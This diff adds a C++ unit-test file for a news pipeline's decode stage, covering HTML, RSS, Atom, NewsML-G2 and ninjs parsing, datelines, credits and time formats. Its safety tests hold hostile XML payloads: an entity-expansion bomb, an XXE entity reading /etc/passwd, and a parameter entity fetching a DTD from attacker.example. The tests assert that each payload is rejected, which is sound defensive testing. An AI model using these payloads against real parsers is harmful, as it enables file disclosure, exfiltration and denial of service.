@@ -1,0 +1,485 @@
+// Format decoders (HTML, RSS, Atom, NewsML-G2 newsMessage fan-out, ninjs
+// tolerance), safety limits (XXE, entity bombs, nesting, size) and textual
+// datelines and credits. Corpus-wide golden tests are in tests/golden/.
+#include <string>
+#include <vector>
+
+#include "absl/strings/str_cat.h"
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "pipeline/stage_registry.h"
+#include "stages/common/spans.h"
+#include "stages/decode/decode.h"
+#include "stages/decode/wire_time.h"
+#include "tests/stages/testing/status_matchers.h"
+
+namespace newsd::stages {
+namespace {
+
+using ::newsd::testing::IsOk;
+using ::newsd::testing::StatusIs;
+using ::testing::Contains;
+using ::testing::ElementsAre;
+using ::testing::HasSubstr;
+using ::testing::IsEmpty;
+
+constexpr absl::StatusCode kInvalid = absl::StatusCode::kInvalidArgument;
+constexpr absl::StatusCode kExhausted = absl::StatusCode::kResourceExhausted;
+
+// All articles of one message (the first, then the fanned-out ones).
+absl::StatusOr<std::vector<v1::Article>> DecodeAll(absl::string_view payload,
+                                                   absl::string_view content_type = "",
+                                                   DecodeOptions options = {}) {
+  v1::Article article;
+  article.set_id("news.raw/3/9");
+  article.mutable_source()->set_topic("news.raw");
+  article.mutable_source()->set_content_type(std::string(content_type));
+  std::vector<v1::Article> more;
+  StageContext ctx;
+  ctx.payload = payload;
+  ctx.more_articles = &more;
+  if (absl::Status s = DecodeStage(options).Process(article, ctx); !s.ok()) return s;
+  more.insert(more.begin(), std::move(article));
+  return more;
+}
+
+absl::StatusOr<v1::Article> Decode(absl::string_view payload, absl::string_view content_type = "",
+                                   DecodeOptions options = {}) {
+  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(payload, content_type, options);
+  if (!all.ok()) return all.status();
+  return all->front();
+}
+
+std::string Span(const v1::Article& a, const v1::Span& s) {
+  absl::StatusOr<absl::string_view> t = SpanText(a.text(), s);
+  return t.ok() ? std::string(*t) : "<bad span>";
+}
+
+std::vector<std::string> Paragraphs(const v1::Article& a) {
+  std::vector<std::string> out;
+  for (const v1::Span& p : a.paragraphs()) out.push_back(Span(a, p));
+  return out;
+}
+
+// ---- HTML ---------------------------------------------------------------------------
+
+TEST(HtmlTest, MainTextWithoutBoilerplateAndOpenGraphMetadata) {
+  absl::StatusOr<v1::Article> a = Decode(R"(<!DOCTYPE html>
+<html lang="en-GB"><head>
+<meta charset="utf-8"><title>Talks resume | Example News</title>
+<meta property="og:title" content="Talks resume in Geneva">
+<meta property="og:url" content="https://news.example.com/world/talks-resume">
+<meta property="og:site_name" content="Example News">
+<meta property="article:published_time" content="2013-09-12T10:15:00+02:00">
+<meta name="author" content="Jane Smith">
+<meta name="keywords" content="Syria, diplomacy">
+<script>var tracking = "<p>not text</p>";</script><style>p{color:red}</style>
+</head><body>
+<header class="masthead"><nav><a href="/">Home</a> <a href="/world">World</a></nav></header>
+<div class="share-bar">Share on Facebook</div>
+<article>
+  <h1>Talks resume in Geneva</h1>
+  <p>GENEVA, Sept 12 (Reuters) - Talks on Syria resumed on <b>Thursday</b>,
+     diplomats&nbsp;said.</p>
+  <figure><img src="x.jpg"><figcaption>A photo caption</figcaption></figure>
+  <p>&ldquo;We are hopeful,&rdquo; one said.</p>
+  <aside class="related">Related: other stories</aside>
+  <p>(Reporting by Jane Smith; Editing by Tom Brown)</p>
+</article>
+<footer>Copyright 2013 Example News. <a href="/privacy">Privacy</a></footer>
+<div id="cookie-consent">We use cookies</div>
+</body></html>)");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->format(), v1::FORMAT_HTML);
+  EXPECT_EQ(Span(*a, a->headline()), "Talks resume in Geneva");
+  EXPECT_THAT(Paragraphs(*a),
+              ElementsAre("GENEVA, Sept 12 (Reuters) - Talks on Syria resumed on Thursday, "
+                          "diplomats said.",
+                          "\u201cWe are hopeful,\u201d one said."));
+  EXPECT_THAT(a->credits(), ElementsAre("(Reporting by Jane Smith; Editing by Tom Brown)"));
+  EXPECT_EQ(a->dateline().place(), "GENEVA");
+  EXPECT_EQ(a->dateline().date(), "Sept 12");
+  EXPECT_EQ(a->dateline().agency(), "Reuters");
+  EXPECT_EQ(Span(*a, a->dateline().span()), "GENEVA, Sept 12 (Reuters) -");
+  EXPECT_EQ(a->wire().url(), "https://news.example.com/world/talks-resume");
+  EXPECT_EQ(a->id(), "https://news.example.com/world/talks-resume");
+  EXPECT_EQ(a->wire().provider(), "Example News");
+  EXPECT_EQ(a->wire().declared_language(), "en-GB");
+  EXPECT_EQ(a->byline_text(), "Jane Smith");
+  EXPECT_THAT(a->wire().keywords(), ElementsAre("Syria", "diplomacy"));
+  EXPECT_EQ(a->published_at().seconds(), 1378973700);  // 2013-09-12T08:15:00Z
+  // &nbsp; is markup white space, collapsed by the parser: no repair to report.
+  EXPECT_THAT(a->flags(), IsEmpty());
+}
+
+TEST(HtmlTest, TagSoupWithoutArticleUsesBody) {
+  absl::StatusOr<v1::Article> a =
+      Decode("<html><body><h1>Flood warning<p>Rivers rose<br>overnight.<p>Roads closed", "text/html");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(Span(*a, a->headline()), "Flood warning");
+  EXPECT_THAT(Paragraphs(*a), ElementsAre("Rivers rose", "overnight.", "Roads closed"));
+}
+
+// ---- RSS and Atom -------------------------------------------------------------------
+
+TEST(FeedTest, RssItemsFanOut) {
+  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(R"(<?xml version="1.0"?>
+<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
+     xmlns:content="http://purl.org/rss/1.0/modules/content/">
+<channel><title>Example Wire</title><language>en-us</language>
+<item><title>First &amp; foremost</title><link>https://ex.com/1</link>
+  <guid isPermaLink="false">ex-1</guid><pubDate>Thu, 12 Sep 2013 10:00:00 GMT</pubDate>
+  <description>&lt;p&gt;Para one.&lt;/p&gt;&lt;p&gt;Para &amp;amp;quot;two&amp;amp;quot;.&lt;/p&gt;</description>
+  <dc:creator>Jane Smith</dc:creator><category>World</category></item>
+<item><title>Second</title><link>https://ex.com/2</link>
+  <pubDate>Thu, 12 Sep 2013 11:30:00 EDT</pubDate>
+  <content:encoded><![CDATA[<p>Full <b>text</b>.</p>]]></content:encoded>
+  <description>Short.</description></item>
+</channel></rss>)");
+  ASSERT_THAT(all, IsOk());
+  ASSERT_EQ(all->size(), 2u);
+  const v1::Article& a = (*all)[0];
+  EXPECT_EQ(a.format(), v1::FORMAT_RSS);
+  EXPECT_EQ(a.text(), "First & foremost\n\nPara one.\n\nPara \"two\".");
+  EXPECT_EQ(a.id(), "ex-1");
+  EXPECT_EQ(a.wire().url(), "https://ex.com/1");
+  EXPECT_EQ(a.wire().provider(), "Example Wire");
+  EXPECT_EQ(a.wire().declared_language(), "en-us");
+  EXPECT_EQ(a.byline_text(), "Jane Smith");
+  EXPECT_THAT(a.wire().keywords(), ElementsAre("World"));
+  EXPECT_EQ(a.published_at().seconds(), 1378980000);
+  EXPECT_THAT(a.flags(), ElementsAre("entities_decoded"));
+  const v1::Article& b = (*all)[1];
+  EXPECT_EQ(b.text(), "Second\n\nFull text.");
+  EXPECT_EQ(b.id(), "https://ex.com/2");  // no guid: the link
+  EXPECT_EQ(b.published_at().seconds(), 1378999800);  // 11:30 EDT = 15:30Z
+  EXPECT_EQ(b.source().topic(), "news.raw");
+}
+
+TEST(FeedTest, AtomEntriesWithTextHtmlAndXhtmlContent) {
+  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(R"(<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
+  <title>Fil Exemple</title>
+  <entry><title>Un</title><id>urn:uuid:1</id><link href="https://ex.fr/1"/>
+    <published>2013-09-12T10:00:00+02:00</published><updated>2013-09-12T11:00:00Z</updated>
+    <author><name>Marie Curie</name></author><category term="monde" label="Monde"/>
+    <content type="html">&lt;p&gt;Premier.&lt;/p&gt;</content></entry>
+  <entry><title>Deux</title><id>urn:uuid:2</id><updated>2013-09-13T08:00:00Z</updated>
+    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Deuxième.</p><p>Fin.</p></div></content></entry>
+  <entry><title>Trois</title><id>urn:uuid:3</id><summary>Ligne un
+Ligne deux</summary></entry>
+</feed>)");
+  ASSERT_THAT(all, IsOk());
+  ASSERT_EQ(all->size(), 3u);
+  EXPECT_EQ((*all)[0].format(), v1::FORMAT_ATOM);
+  EXPECT_EQ((*all)[0].text(), "Un\n\nPremier.");
+  EXPECT_EQ((*all)[0].wire().url(), "https://ex.fr/1");
+  EXPECT_EQ((*all)[0].wire().provider(), "Fil Exemple");
+  EXPECT_EQ((*all)[0].wire().declared_language(), "fr");
+  EXPECT_EQ((*all)[0].byline_text(), "Marie Curie");
+  EXPECT_THAT((*all)[0].wire().keywords(), ElementsAre("Monde"));
+  EXPECT_EQ((*all)[0].published_at().seconds(), 1378972800);  // 08:00Z
+  EXPECT_EQ((*all)[0].wire().version_created().seconds(), 1378983600);
+  EXPECT_EQ((*all)[1].text(), "Deux\n\nDeuxi\u00e8me.\n\nFin.");
+  EXPECT_EQ((*all)[1].published_at().seconds(), 1379059200);  // updated
+  EXPECT_EQ((*all)[2].text(), "Trois\n\nLigne un\n\nLigne deux");
+  EXPECT_EQ((*all)[2].id(), "urn:uuid:3");
+}
+
+TEST(FeedTest, MaxItemsTruncatesTheFanOut) {
+  std::string rss = "<rss><channel>";
+  for (int i = 0; i < 5; ++i) absl::StrAppend(&rss, "<item><title>T", i, "</title></item>");
+  absl::StrAppend(&rss, "</channel></rss>");
+  DecodeOptions options;
+  options.limits.max_items = 2;
+  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(rss, "", options);
+  ASSERT_THAT(all, IsOk());
+  ASSERT_EQ(all->size(), 2u);
+  EXPECT_THAT((*all)[0].flags(), Contains("items_truncated"));
+  EXPECT_EQ((*all)[1].id(), "news.raw/3/9#2");
+}
+
+// ---- NewsML-G2 newsMessage ------------------------------------------------------------
+
+constexpr absl::string_view kNewsMessage = R"(<?xml version="1.0" encoding="UTF-8"?>
+<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">
+  <header><sent>2013-09-12T10:00:00Z</sent></header>
+  <itemSet>
+    <newsItem guid="urn:newsml:ex.com:20130912:a" version="2" xml:lang="en">
+      <itemMeta><itemClass qcode="ninat:text"/><provider qcode="nprov:EX"/>
+        <versionCreated>2013-09-12T09:59:00Z</versionCreated>
+        <pubStatus qcode="stat:withheld"/></itemMeta>
+      <contentMeta><urgency>2</urgency><slugline>SYRIA-TALKS</slugline>
+        <headline>Talks resume</headline><by>By Jane Smith</by>
+        <dateline>GENEVA, Sept 12 (Reuters) -</dateline>
+        <subject qcode="medtop:11000000"/><keyword>diplomacy</keyword></contentMeta>
+      <contentSet><inlineXML contenttype="application/xhtml+xml">
+        <html xmlns="http://www.w3.org/1999/xhtml"><body>
+          <p>GENEVA, Sept 12 (Reuters) - Talks resumed.</p><p>More later.</p>
+        </body></html></inlineXML></contentSet>
+    </newsItem>
+    <newsItem guid="urn:newsml:ex.com:20130912:b" version="1">
+      <itemMeta><pubStatus qcode="stat:canceled"/></itemMeta>
+      <contentMeta><headline>Withdrawn</headline></contentMeta>
+      <contentSet><inlineData contenttype="text/plain">Line one.
+
+Line two.</inlineData></contentSet>
+    </newsItem>
+    <newsItem guid="urn:newsml:ex.com:20130912:empty"/>
+  </itemSet>
+</newsMessage>)";
+
+TEST(NewsMlG2Test, NewsMessageFansOutOneArticlePerItem) {
+  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(kNewsMessage);
+  ASSERT_THAT(all, IsOk());
+  ASSERT_EQ(all->size(), 2u);  // the empty item is skipped
+  const v1::Article& a = (*all)[0];
+  EXPECT_EQ(a.id(), "urn:newsml:ex.com:20130912:a");
+  EXPECT_EQ(a.wire().version(), 2u);
+  EXPECT_EQ(a.wire().pub_status(), v1::PUB_STATUS_WITHHELD);
+  EXPECT_EQ(a.wire().urgency(), 2u);
+  EXPECT_EQ(a.wire().slugline(), "SYRIA-TALKS");
+  EXPECT_EQ(a.wire().provider(), "EX");
+  EXPECT_THAT(a.wire().subjects(), ElementsAre("medtop:11000000"));
+  EXPECT_THAT(a.wire().keywords(), ElementsAre("diplomacy"));
+  EXPECT_EQ(a.byline_text(), "By Jane Smith");
+  EXPECT_EQ(a.dateline().place(), "GENEVA");
+  EXPECT_EQ(a.dateline().date(), "Sept 12");
+  EXPECT_EQ(a.dateline().agency(), "Reuters");
+  EXPECT_EQ(Span(a, a.dateline().span()), "GENEVA, Sept 12 (Reuters) -");
+  EXPECT_EQ(a.text(), "Talks resume\n\nGENEVA, Sept 12 (Reuters) - Talks resumed.\n\nMore later.");
+  EXPECT_THAT(a.flags(), ElementsAre("items_skipped"));
+  const v1::Article& b = (*all)[1];
+  EXPECT_EQ(b.id(), "urn:newsml:ex.com:20130912:b");
+  EXPECT_EQ(b.wire().pub_status(), v1::PUB_STATUS_CANCELED);
+  EXPECT_EQ(b.text(), "Withdrawn\n\nLine one.\n\nLine two.");
+}
+
+TEST(NewsMlG2Test, WithoutFanOutOnlyTheFirstItemIsKept) {
+  v1::Article article;
+  StageContext ctx;
+  ctx.payload = kNewsMessage;
+  ASSERT_THAT(DecodeStage(DecodeOptions{}).Process(article, ctx), IsOk());
+  EXPECT_EQ(article.id(), "urn:newsml:ex.com:20130912:a");
+  EXPECT_THAT(article.flags(), Contains("more_items_dropped"));
+}
+
+// ---- ninjs tolerance ------------------------------------------------------------------
+
+TEST(NinjsTest, WrongTypesAndNullsAreIgnored) {
+  absl::StatusOr<v1::Article> a = Decode(R"({
+    "uri": "urn:x:1", "version": 3, "urgency": "2", "pubstatus": "usable",
+    "headline": null, "headlines": [{"role": "sub", "value": "Sub"},
+                                   {"role": "main", "value": "Main headline"}],
+    "byline": {"x": 1}, "by": [{"name": "A. Writer"}, {"name": "B. Editor"}],
+    "subjects": [{"uri": "medtop:04000000"}, {"name": "Economy"}, "bad", {"code": "X1", "scheme": "ex"}],
+    "bodies": {"not": "an array"}, "body_text": "One.\n\nTwo.",
+    "versioncreated": "not a date", "located": "Oslo"})");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->text(), "Main headline\n\nOne.\n\nTwo.");
+  EXPECT_EQ(a->wire().version(), 3u);
+  EXPECT_EQ(a->wire().urgency(), 2u);
+  EXPECT_EQ(a->byline_text(), "A. Writer, B. Editor");
+  EXPECT_THAT(a->wire().subjects(), ElementsAre("medtop:04000000", "ex:X1"));
+  EXPECT_THAT(a->wire().keywords(), ElementsAre("Economy"));
+  EXPECT_EQ(a->wire().located(), "Oslo");
+  EXPECT_FALSE(a->wire().has_version_created());
+  EXPECT_THAT(a->flags(), ElementsAre("date_unparsed", "ninjs_field_ignored"));
+}
+
+TEST(NinjsTest, MalformedAndNonObjectJson) {
+  EXPECT_THAT(Decode("{\"uri\": \"x\", \"headline\": \"H\""),
+              StatusIs(kInvalid, HasSubstr("ninjs: invalid JSON at byte 29")));
+  EXPECT_THAT(Decode("[1, 2]", "application/ninjs+json"),
+              StatusIs(kInvalid, "ninjs: top-level value is not an object"));
+}
+
+// ---- Safety ---------------------------------------------------------------------------
+
+TEST(SafetyTest, EntityBombIsRejectedFast) {
+  const std::string bomb = R"(<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<nitf><body><body.content><p>&lol9;</p></body.content></body></nitf>)";
+  EXPECT_THAT(Decode(bomb), StatusIs(kInvalid, "XML entity declaration <!ENTITY lol> rejected "
+                                               "(DTD entities are disabled)"));
+}
+
+TEST(SafetyTest, ExternalEntitiesAreRejected) {
+  const std::string xxe = R"(<?xml version="1.0"?>
+<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<newsItem guid="x"><contentMeta><headline>&xxe;</headline></contentMeta></newsItem>)";
+  EXPECT_THAT(Decode(xxe), StatusIs(kInvalid, HasSubstr("<!ENTITY xxe> rejected")));
+  const std::string param = R"(<?xml version="1.0"?>
+<!DOCTYPE nitf [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
+<nitf/>)";
+  EXPECT_THAT(Decode(param), StatusIs(kInvalid, HasSubstr("<!ENTITY ext> rejected")));
+  // An external DTD is never loaded; undeclared HTML entities still decode.
+  absl::StatusOr<v1::Article> a = Decode(R"(<?xml version="1.0"?>
+<!DOCTYPE nitf SYSTEM "http://www.nitf.org/IPTC/NITF/3.5/specification/dtd/nitf-3-5.dtd">
+<nitf><body><body.head><hedline><hl1>Caf&eacute; &amp; bar</hl1></hedline></body.head></body></nitf>)");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->text(), "Caf\u00e9 & bar");
+}
+
+TEST(SafetyTest, MalformedXmlNamesTheProblem) {
+  EXPECT_THAT(Decode("<nitf><body><p>unclosed</body></nitf>"),
+              StatusIs(kInvalid, HasSubstr("XML not well-formed: ")));
+}
+
+TEST(SafetyTest, XmlDepthLimits) {
+  std::string deep = "<nitf><body><body.content>";
+  for (int i = 0; i < 40; ++i) deep += "<block>";
+  deep += "<p>Deep text.</p>";
+  for (int i = 0; i < 40; ++i) deep += "</block>";
+  deep += "<p>Shallow text.</p></body.content></body></nitf>";
+  DecodeOptions options;
+  options.limits.xml_max_depth = 20;
+  absl::StatusOr<v1::Article> a = Decode(deep, "", options);
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->text(), "Shallow text.");
+  EXPECT_THAT(a->flags(), ElementsAre("xml_depth_limit", "headline_missing"));
+  a = Decode(deep);  // default 100: everything is read
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->text(), "Deep text.\n\nShallow text.");
+
+  std::string too_deep = "<nitf>";
+  for (int i = 0; i < 300; ++i) too_deep += "<a>";
+  EXPECT_THAT(Decode(too_deep), StatusIs(kExhausted, "XML nesting deeper than 256 levels"));
+}
+
+TEST(SafetyTest, JsonDepthLimit) {
+  std::string deep = "{\"headline\": \"H\", \"x\": ";
+  for (int i = 0; i < 100; ++i) deep += "[";
+  for (int i = 0; i < 100; ++i) deep += "]";
+  deep += "}";
+  EXPECT_THAT(Decode(deep),
+              StatusIs(kExhausted, "ninjs: JSON nested deeper than 64 levels (json_max_depth)"));
+  DecodeOptions options;
+  options.limits.json_max_depth = 200;
+  EXPECT_THAT(Decode(deep, "", options), IsOk());
+}
+
+TEST(SafetyTest, OversizeInputTruncatedOrRejected) {
+  std::string big = "Headline\n";
+  for (int i = 0; i < 100; ++i) absl::StrAppend(&big, "Paragraph number ", i, ".\n");
+  DecodeOptions options;
+  options.max_bytes = 200;
+  EXPECT_THAT(Decode(big, "", options), StatusIs(kExhausted, HasSubstr("exceeds max_bytes (200)")));
+  options.oversize = DecodeOptions::Oversize::kTruncate;
+  absl::StatusOr<v1::Article> a = Decode(big, "", options);
+  ASSERT_THAT(a, IsOk());
+  EXPECT_THAT(a->flags(), Contains("truncated"));
+  EXPECT_EQ(Span(*a, a->paragraphs(0)), "Paragraph number 0.");
+}
+
+TEST(SafetyTest, TextLimits) {
+  std::string text = "Headline\n";
+  for (int i = 0; i < 10; ++i) absl::StrAppend(&text, "Paragraph ", i, ".\n");
+  DecodeOptions options;
+  options.text.max_paragraphs = 3;
+  absl::StatusOr<v1::Article> a = Decode(text, "", options);
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->paragraphs_size(), 3);
+  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
+  options = {};
+  options.text.max_text_bytes = 40;  // "Headline\n\nParagraph 0.\n\nParagraph 1." is 38 bytes
+  a = Decode(text, "", options);
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->text(), "Headline\n\nParagraph 0.\n\nParagraph 1.");
+  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
+}
+
+TEST(DecodeFactoryTest, NewOptionsAreValidated) {
+  v1::StageConfig config;
+  config.set_name("decode");
+  (*config.mutable_options())["xml_max_depth"] = "1000";
+  EXPECT_THAT(StageRegistry::Global().Create(config),
+              StatusIs(kInvalid, "options[\"xml_max_depth\"]: expected an integer in [8, 256], "
+                                 "got \"1000\""));
+  config.mutable_options()->clear();
+  (*config.mutable_options())["oversize"] = "drop";
+  EXPECT_THAT(StageRegistry::Global().Create(config), StatusIs(kInvalid, HasSubstr("options[\"oversize\"]")));
+  config.mutable_options()->clear();
+  for (const auto& [k, v] : std::vector<std::pair<std::string, std::string>>{
+           {"max_bytes", "1024"}, {"oversize", "truncate"}, {"max_text_bytes", "4096"},
+           {"max_paragraphs", "10"}, {"max_items", "5"}, {"xml_max_depth", "32"},
+           {"json_max_depth", "16"}, {"charset_min_confidence", "60"},
+           {"max_invalid_ratio", "0.05"}}) {
+    (*config.mutable_options())[k] = v;
+  }
+  EXPECT_THAT(StageRegistry::Global().Create(config), IsOk());
+}
+
+// ---- Datelines and credits -------------------------------------------------------------
+
+TEST(DatelineTest, TextualDatelinesInMarkupBodies) {
+  struct Case {
+    const char* paragraph;
+    const char* place;
+    const char* date;
+    const char* agency;
+    const char* span;
+  };
+  const Case cases[] = {
+      {"GENEVA/BRUSSELS, Sept 12 (Reuters) - EU and U.N. officials met.", "GENEVA/BRUSSELS",
+       "Sept 12", "Reuters", "GENEVA/BRUSSELS, Sept 12 (Reuters) -"},
+      {"ASTANA, Kazakhstan (AP) \u2014 Leaders gathered on Monday.", "ASTANA, Kazakhstan", "", "AP",
+       "ASTANA, Kazakhstan (AP) \u2014"},
+      {"ROUND ROCK, Texas--(BUSINESS WIRE)--Dell today announced a server.", "ROUND ROCK, Texas",
+       "", "BUSINESS WIRE", "ROUND ROCK, Texas--(BUSINESS WIRE)--"},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.paragraph);
+    absl::StatusOr<v1::Article> a = Decode(absl::StrCat(
+        "{\"headline\": \"H\", \"body_html\": \"<p>", c.paragraph, "</p>\"}"));
+    ASSERT_THAT(a, IsOk());
+    EXPECT_EQ(a->dateline().place(), c.place);
+    EXPECT_EQ(a->dateline().date(), c.date);
+    EXPECT_EQ(a->dateline().agency(), c.agency);
+    EXPECT_EQ(Span(*a, a->dateline().span()), c.span);
+  }
+  // An ordinary sentence with a dash is no dateline.
+  absl::StatusOr<v1::Article> a =
+      Decode("{\"headline\": \"H\", \"body_text\": \"The talks - long delayed - resumed.\"}");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_FALSE(a->has_dateline());
+}
+
+TEST(CreditsTest, ReutersAndApCreditLinesLeaveTheBody) {
+  absl::StatusOr<v1::Article> a = Decode(
+      "{\"headline\": \"H\", \"body_text\": \"First.\\n\\nLast fact. (Reporting by Ann Lee in "
+      "Paris; Editing by Tom Brown)\\n\\nJohn Doe in Rome contributed to this report.\"}");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_THAT(Paragraphs(*a), ElementsAre("First.", "Last fact."));
+  EXPECT_THAT(a->credits(), ElementsAre("(Reporting by Ann Lee in Paris; Editing by Tom Brown)",
+                                        "John Doe in Rome contributed to this report."));
+  // A sentence mentioning reporting is kept.
+  a = Decode("{\"headline\": \"H\", \"body_text\": \"One.\\n\\nReporting by the BBC was criticised "
+             "by ministers, who said it was unfair to them and to others.\"}");
+  ASSERT_THAT(a, IsOk());
+  EXPECT_EQ(a->paragraphs_size(), 2);
+  EXPECT_THAT(a->credits(), IsEmpty());
+}
+
+TEST(WireTimeTest, Formats) {
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2018-10-21T16:25:32-05:00")), 1540157132);
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("20020225T143000-0500")), 1014665400);
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("20130516T040100+0000")), 1368676860);
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("Wed, 02 Oct 2002 13:00:00 GMT")), 1033563600);
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2 Oct 2002 08:00 -0500")), 1033563600);
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2013-09-12")), 1378944000);
+  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("20130912")), 1378944000);
+  EXPECT_FALSE(ParseWireTime("yesterday").has_value());
+  EXPECT_FALSE(ParseWireTime("").has_value());
+  EXPECT_EQ(ParsePubStatus("stat:usable"), v1::PUB_STATUS_USABLE);
+  EXPECT_EQ(ParsePubStatus("Cancelled"), v1::PUB_STATUS_CANCELED);
+  EXPECT_EQ(ParseUrgency("10"), 0u);
+}
+
+}  // namespace
+}  // namespace newsd::stages
